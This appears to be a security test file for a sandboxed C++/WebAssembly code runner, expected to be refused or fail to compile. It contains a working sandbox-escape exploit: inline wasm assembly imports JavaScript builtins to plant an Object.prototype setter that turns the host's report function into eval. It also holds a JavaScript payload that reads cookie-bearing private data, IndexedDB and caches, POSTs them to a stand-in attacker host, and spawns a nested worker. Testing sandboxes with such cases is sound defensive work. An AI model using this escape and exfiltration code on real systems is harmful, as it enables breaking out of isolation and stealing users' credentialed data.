// expect: refused "constructor" or compile-error "inline assembly is disabled"
// All of it: a setter on Object.prototype turns the host's report into eval, and the rest is JavaScript.
#include <cstdio>
#include <cstring>
#include <asyncio/asyncio.hpp>
using namespace std::chrono_literals;
asyncio::Coro<void> am() { co_await asyncio::sleep(4s); }
asm(R"(
  .globaltype op, externref, immutable
  .import_module op, constructor
  .import_name op, prototype
  .globaltype rep, externref, immutable
  .import_module rep, asyncio_host
  .import_name rep, report
  .tabletype __indirect_function_table, funcref

  .functype o_new () -> (externref)
  .import_module o_new, __proto__
  .import_name o_new, constructor
  .functype o_fun (funcref) -> (externref)
  .import_module o_fun, __proto__
  .import_name o_fun, constructor
  .functype names12 (externref) -> (externref, externref, externref, externref, externref, externref, externref, externref, externref, externref, externref, externref)
  .import_module names12, constructor
  .import_name names12, getOwnPropertyNames
  .functype keys4 (externref) -> (externref, externref, externref, externref)
  .import_module keys4, constructor
  .import_name keys4, keys
  .functype gopd (externref, externref) -> (externref)
  .import_module gopd, constructor
  .import_name gopd, getOwnPropertyDescriptor
  .functype gopdi (externref, i32) -> (externref)
  .import_module gopdi, constructor
  .import_name gopdi, getOwnPropertyDescriptor
  .functype gopds (externref) -> (externref)
  .import_module gopds, constructor
  .import_name gopds, getOwnPropertyDescriptors
  .functype defp (externref, externref, externref) -> (externref)
  .import_module defp, constructor
  .import_name defp, defineProperty
  .functype values (externref) -> (externref)
  .import_module values, constructor
  .import_name values, values
  .functype values2 (externref) -> (externref, externref)
  .import_module values2, constructor
  .import_name values2, values
  .functype values3 (externref) -> (externref, externref, externref)
  .import_module values3, constructor
  .import_name values3, values
  .functype values4 (externref) -> (externref, externref, externref, externref)
  .import_module values4, constructor
  .import_name values4, values
  .functype function (externref) -> (externref)
  .import_module function, constructor
  .import_name function, constructor
  .functype groupby (externref, externref) -> (externref)
  .import_module groupby, constructor
  .import_name groupby, groupBy

  .globl got
  .type got,@function
got:
  .functype got (externref) -> ()
  .local externref, externref
  local.get 0
  call values3
  local.set 1
  local.set 2
  drop
  local.get 2
  local.get 1
  call function
  call groupby
  drop
  end_function

  .globl setup
  .type setup,@function
setup:
  .functype setup (i32) -> ()
  .local externref, externref, externref, externref, externref, externref, externref, externref, externref, externref
  # 1 = F
  local.get 0
  table.get __indirect_function_table
  call o_fun
  local.set 1
  # names: last is toLocaleString(drop), __proto__ -> 2, valueOf -> 3
  global.get op
  call names12
  drop
  local.set 2
  local.set 3
  drop
  drop
  drop
  drop
  drop
  drop
  drop
  drop
  drop
  # 4 = dproto
  global.get op
  local.get 2
  call gopd
  local.set 4
  # keys: configurable->5 enumerable->6 set->7 get->8
  local.get 4
  call keys4
  local.set 5
  local.set 6
  local.set 7
  local.set 8
  # D1
  call o_new
  local.set 9
  local.get 9
  local.get 8
  global.get op
  local.get 3
  call gopd
  call defp
  drop
  local.get 9
  local.get 6
  local.get 4
  local.get 5
  call gopd
  call defp
  drop
  # F.get = accessor valueOf
  local.get 1
  local.get 8
  local.get 9
  call defp
  drop
  # D2 = {set: F}
  call o_new
  local.set 9
  local.get 9
  local.get 7
  local.get 1
  call values
  i32.const 0
  call gopdi
  call defp
  drop
  # Object.prototype.report = accessor D2 ; name of report
  global.get op
  global.get rep
  call gopds
  call values2
  local.set 10
  drop
  local.get 10
  call values4
  drop
  drop
  drop
  local.get 9
  call defp
  drop
  end_function
)");
extern "C" void got(__externref_t);
extern "C" void setup(void (*)(__externref_t));
__attribute__((import_module("asyncio_host"), import_name("report"))) void report(int kind, const char* t, unsigned tl,
                                                                                  const char* w, unsigned wl);
#ifndef CODE
#define CODE                                                                                                           \
  "(async()=>{let o=[];o.push('worker global: '+self.constructor.name+' '+self.location.href);o.push('eval: "          \
  "'+(0,eval)('6*7'));try{o.push('fetch same origin with cookies: '+await(await "                                      \
  "fetch('/private.json',{credentials:'include'})).text())}catch(e){o.push('private '+e)}try{o.push('idb: "            \
  "'+JSON.stringify(await indexedDB.databases()))}catch(e){o.push('idb '+e)}try{o.push('caches: "                      \
  "'+JSON.stringify(await caches.keys()))}catch(e){o.push('caches '+e)}try{const r=await "                             \
  "fetch('http://thief.invalid/steal',{method:'POST',body:o.join('|')});o.push('exfiltrated to another origin: "       \
  "'+r.status)}catch(e){o.push('exfil '+e)}try{const b=new Blob(['postMessage(1)']);const w=new "                      \
  "Worker(URL.createObjectURL(b));o.push('nested worker '+await new "                                                  \
  "Promise((y,n)=>{w.onmessage=()=>y('ran');w.onerror=()=>y('error');setTimeout(()=>y('timeout'),2000)}))}catch(e){o." \
  "push('nested '+e)}for(let "                                                                                         \
  "run=1;run<500;++run)postMessage({kind:'output',run,chunks:o.map(text=>({stream:'stdout',text:'ESCAPED: "            \
  "'+text+'\\\n',time:1}))});})()"
#endif
int main() {
  setup(&got);
  const char* code = CODE;
  report(0, "x", 1, code, std::strlen(code));
  std::puts("back in C++");
  asyncio::run(am());
}
